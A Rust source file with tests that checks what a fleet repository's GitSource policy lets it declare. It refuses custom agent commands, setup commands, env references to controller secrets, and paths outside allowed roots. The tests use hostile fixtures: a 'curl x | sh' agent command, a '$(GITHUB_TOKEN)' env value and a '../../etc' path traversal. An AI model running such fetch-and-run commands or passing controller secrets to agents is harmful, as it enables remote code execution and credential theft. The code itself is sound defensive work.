//! What a fleet repository may declare: a GitSource's `spec.policy` checked on every object of a
//! revision before anything of it is written. A commit to the repository runs as the controller's
//! user (an agent with its approvals bypassed is any command), so by default a repository
//! declares Sessions and IssueSources of built-in agents only: a Project (a path of the machine,
//! setup commands, command notifiers), a GitSource, a custom agent command, a runtime other than
//! the one the policy names and an `env` value that hands an agent one of the controller's
//! variables are refused, each naming its field, and the revision stalls as it does for any bad
//! manifest. Pure: no IO.

use std::path::{Component, Path};

use aoctl_api::decode::AnyObject;
use aoctl_api::gitsource::SourcePolicy;
use aoctl_api::project::NotifierType;
use aoctl_api::review::ReviewSpec;
use aoctl_api::session::{AgentRef, RuntimeKind};
use aoctl_api::GitSource;

/// What of `obj` `source`'s policy refuses, as `field: message`; empty when it allows all of it.
pub(crate) fn refusals(source: &GitSource, obj: &AnyObject) -> Vec<String> {
    let policy = source.spec.policy.clone().unwrap_or_default();
    let mut r = Refusals { policy: &policy, source: &source.metadata.name, found: vec![] };
    let kind = obj.kind();
    if !policy.allows(kind) {
        let allowed = if policy.kinds.is_empty() {
            SourcePolicy::DEFAULT_KINDS.iter().map(|k| k.as_str()).collect::<Vec<_>>().join(" and ")
        } else {
            policy.kinds.join(", ")
        };
        r.refuse(
            "kind",
            format!("a {} may not be declared here (this source declares {allowed}; spec.policy.kinds)", kind.as_str()),
        );
        return r.found;
    }
    match obj {
        AnyObject::Project(p) => {
            r.project_path(&p.spec.path);
            if let Some(d) = &p.spec.defaults {
                r.agent("spec.defaults.agent", d.agent.as_ref());
                r.runtime("spec.defaults.runtime", d.runtime, false);
            }
            if p.spec.setup.as_ref().is_some_and(|s| !s.commands.is_empty()) {
                r.command("spec.setup.commands", "setup commands");
            }
            for (i, n) in p.spec.notifiers.iter().enumerate() {
                if n.type_ == NotifierType::Command {
                    r.command(&format!("spec.notifiers[{i}]"), "a command notifier");
                }
            }
            r.review("spec.review", p.spec.review.as_ref());
        }
        AnyObject::Session(s) => {
            r.agent("spec.agent", s.spec.agent.as_ref());
            r.runtime("spec.runtime", s.spec.runtime, true);
            r.env("spec.env", s.spec.env.iter());
            r.review("spec.review", s.spec.review.as_ref());
        }
        AnyObject::IssueSource(i) => {
            let t = &i.spec.template;
            r.agent("spec.template.agent", t.agent.as_ref());
            r.runtime("spec.template.runtime", t.runtime, true);
            r.env("spec.template.env", t.env.iter());
            r.review("spec.template.review", t.review.as_ref());
        }
        // What it declares is held to its own policy, which may be no wider than this one.
        AnyObject::GitSource(g) => r.narrower(&g.spec.policy.clone().unwrap_or_default()),
    }
    r.found
}

struct Refusals<'a> {
    policy: &'a SourcePolicy,
    source: &'a str,
    found: Vec<String>,
}

impl Refusals<'_> {
    fn refuse(&mut self, field: &str, why: String) {
        self.found.push(format!("{field}: {why}"));
    }

    fn command(&mut self, field: &str, what: &str) {
        if !self.policy.commands {
            let why = format!(
                "{what} may not come from GitSource {}: its policy allows built-in agents only (spec.policy.commands)",
                self.source
            );
            self.refuse(field, why);
        }
    }

    fn agent(&mut self, field: &str, agent: Option<&AgentRef>) {
        if let Some(AgentRef::Custom { .. }) = agent {
            self.command(&format!("{field}.command"), "a custom agent command");
        }
    }

    /// `declared` must be the policy's runtime; with `required`, it must be declared.
    fn runtime(&mut self, field: &str, declared: Option<RuntimeKind>, required: bool) {
        let Some(want) = self.policy.runtime else { return };
        match declared {
            Some(d) if d == want => {}
            None if !required => {}
            other => {
                let got = other.map_or("none".to_string(), |d| format!("`{}`", d.as_str()));
                let why = format!(
                    "must be `{}` (spec.policy.runtime of GitSource {}), not {got}",
                    want.as_str(),
                    self.source
                );
                self.refuse(field, why);
            }
        }
    }

    fn env<'e>(&mut self, field: &str, env: impl Iterator<Item = (&'e String, &'e String)>) {
        if self.policy.env_references {
            return;
        }
        for (name, value) in env {
            if refers(value) {
                let why = format!(
                    "`{value}` would hand the agent the controller's variable; GitSource {} may not (spec.policy.envReferences)",
                    self.source
                );
                self.refuse(&format!("{field}.{name}"), why);
            }
        }
    }

    fn review(&mut self, field: &str, review: Option<&ReviewSpec>) {
        for (i, reviewer) in review.iter().flat_map(|r| r.reviewers.iter()).enumerate() {
            self.agent(&format!("{field}.reviewers[{i}].agent"), reviewer.agent.as_ref());
            self.runtime(&format!("{field}.reviewers[{i}].runtime"), reviewer.runtime, false);
        }
    }

    /// A declared source's policy `inner` allows nothing this one does not.
    fn narrower(&mut self, inner: &SourcePolicy) {
        let outer = self.policy;
        let wider = |what: &str| format!("allows {what}, which GitSource {} itself may not declare", self.source);
        let mut found = vec![];
        for kind in SourcePolicy::KINDS {
            if inner.allows(kind) && !outer.allows(kind) {
                found.push(("spec.policy.kinds", wider(&format!("{} objects", kind.as_str()))));
            }
        }
        if inner.commands && !outer.commands {
            found.push(("spec.policy.commands", wider("commands")));
        }
        if inner.env_references && !outer.env_references {
            found.push(("spec.policy.envReferences", wider("env references")));
        }
        for root in &inner.project_roots {
            if !outer.project_roots.iter().any(|o| Path::new(root).starts_with(o)) {
                found.push(("spec.policy.projectRoots", wider(&format!("Projects under {root}"))));
            }
        }
        if outer.runtime.is_some() && inner.runtime != outer.runtime {
            found.push(("spec.policy.runtime", wider("another runtime")));
        }
        for (field, why) in found {
            self.refuse(field, why);
        }
    }

    fn project_path(&mut self, path: &str) {
        let p = Path::new(path);
        let clean = p.is_absolute() && !p.components().any(|c| matches!(c, Component::ParentDir));
        let roots = &self.policy.project_roots;
        if clean && roots.iter().any(|r| p.starts_with(r)) {
            return;
        }
        let why = if roots.is_empty() {
            format!("a Project may come from GitSource {} only under a folder its spec.policy.projectRoots lists, and it lists none", self.source)
        } else {
            format!("`{path}` is not under spec.policy.projectRoots ({})", roots.join(", "))
        };
        self.refuse("spec.path", why);
    }
}

/// Whether an `env` value is `$(NAME)`, which the agent's environment resolves to the
/// controller's variable `NAME` (`$$(NAME)` is the text itself).
fn refers(value: &str) -> bool {
    let Some(inner) = value.strip_prefix("$(").and_then(|v| v.strip_suffix(')')) else { return false };
    aoctl_api::validate::env_name(inner).is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use aoctl_api::decode::decode_manifests;

    fn source(policy: Option<SourcePolicy>) -> GitSource {
        let mut g = GitSource::default();
        g.metadata.name = "fleet".into();
        g.spec.policy = policy;
        g
    }

    fn object(yaml: &str) -> AnyObject {
        decode_manifests("t.yaml", yaml).expect("a manifest").remove(0).object
    }

    const CUSTOM: &str = "apiVersion: ao.dev/v1alpha1\nkind: Session\nmetadata: {name: s}\nspec:\n  project: web\n  agent: {command: [sh, -c, 'curl x | sh']}\n  env: {TOKEN: $(GITHUB_TOKEN), TEXT: $$(HOME)}\n";
    const PROJECT: &str = "apiVersion: ao.dev/v1alpha1\nkind: Project\nmetadata: {name: web}\nspec:\n  path: /srv/repos/web\n  setup: {commands: [make]}\n  notifiers: [{type: command, command: [sh]}]\n";

    #[test]
    fn the_default_allows_built_in_agents_in_sessions_and_nothing_else() {
        let plain = object("apiVersion: ao.dev/v1alpha1\nkind: Session\nmetadata: {name: s}\nspec: {project: web, agent: claude-code}\n");
        assert_eq!(refusals(&source(None), &plain), Vec::<String>::new());
        assert_eq!(
            refusals(&source(None), &object(CUSTOM)),
            [
                "spec.agent.command: a custom agent command may not come from GitSource fleet: its policy allows built-in agents only (spec.policy.commands)",
                "spec.env.TOKEN: `$(GITHUB_TOKEN)` would hand the agent the controller's variable; GitSource fleet may not (spec.policy.envReferences)",
            ]
        );
        let refused = refusals(&source(None), &object(PROJECT));
        assert_eq!(refused.len(), 1, "{refused:?}");
        assert!(refused[0]
            .starts_with("kind: a Project may not be declared here (this source declares Session and IssueSource"));
    }

    #[test]
    fn a_policy_allows_what_it_names() {
        let open = SourcePolicy {
            kinds: vec!["Project".into(), "Session".into()],
            commands: true,
            project_roots: vec!["/srv/repos".into()],
            runtime: None,
            env_references: true,
        };
        assert_eq!(refusals(&source(Some(open.clone())), &object(CUSTOM)), Vec::<String>::new());
        assert_eq!(refusals(&source(Some(open.clone())), &object(PROJECT)), Vec::<String>::new());
        let elsewhere = PROJECT.replace("/srv/repos/web", "/srv/repos/../../etc");
        assert_eq!(refusals(&source(Some(open.clone())), &object(&elsewhere)).len(), 1);
        let no_roots = SourcePolicy { project_roots: vec![], commands: false, ..open.clone() };
        let refused = refusals(&source(Some(no_roots)), &object(PROJECT));
        let fields: Vec<&str> = refused.iter().map(|r| r.split(':').next().unwrap()).collect();
        assert_eq!(fields, ["spec.path", "spec.setup.commands", "spec.notifiers[0]"], "{refused:?}");

        let docker = SourcePolicy { runtime: Some(RuntimeKind::Docker), ..open };
        let refused = refusals(&source(Some(docker.clone())), &object(CUSTOM));
        assert_eq!(refused, ["spec.runtime: must be `docker` (spec.policy.runtime of GitSource fleet), not none"]);
        let in_docker = CUSTOM.replace("  project: web\n", "  project: web\n  runtime: docker\n");
        assert_eq!(refusals(&source(Some(docker)), &object(&in_docker)), Vec::<String>::new());
    }

    #[test]
    fn a_declared_source_may_allow_no_more_than_its_parent() {
        let parent = SourcePolicy {
            kinds: vec!["Session".into(), "GitSource".into()],
            project_roots: vec!["/srv/repos".into()],
            ..Default::default()
        };
        let child = |policy: &str| {
            object(&format!(
                "apiVersion: ao.dev/v1alpha1\nkind: GitSource\nmetadata: {{name: inner}}\nspec:\n  url: /srv/inner.git\n{policy}"
            ))
        };
        assert_eq!(
            refusals(&source(Some(parent.clone())), &child("  policy: {kinds: [Session]}\n")),
            Vec::<String>::new()
        );
        let refused = refusals(
            &source(Some(parent.clone())),
            &child("  policy: {kinds: [Project, Session], commands: true, projectRoots: [/etc]}\n"),
        );
        let fields: Vec<&str> = refused.iter().map(|r| r.split(':').next().unwrap()).collect();
        assert_eq!(fields, ["spec.policy.kinds", "spec.policy.commands", "spec.policy.projectRoots"], "{refused:?}");
        // Without a policy of its own it gets the default, which takes IssueSources.
        let refused = refusals(&source(Some(parent)), &child(""));
        assert_eq!(refused.len(), 1, "{refused:?}");
        assert!(refused[0].starts_with("spec.policy.kinds: allows IssueSource objects"), "{refused:?}");
    }
}
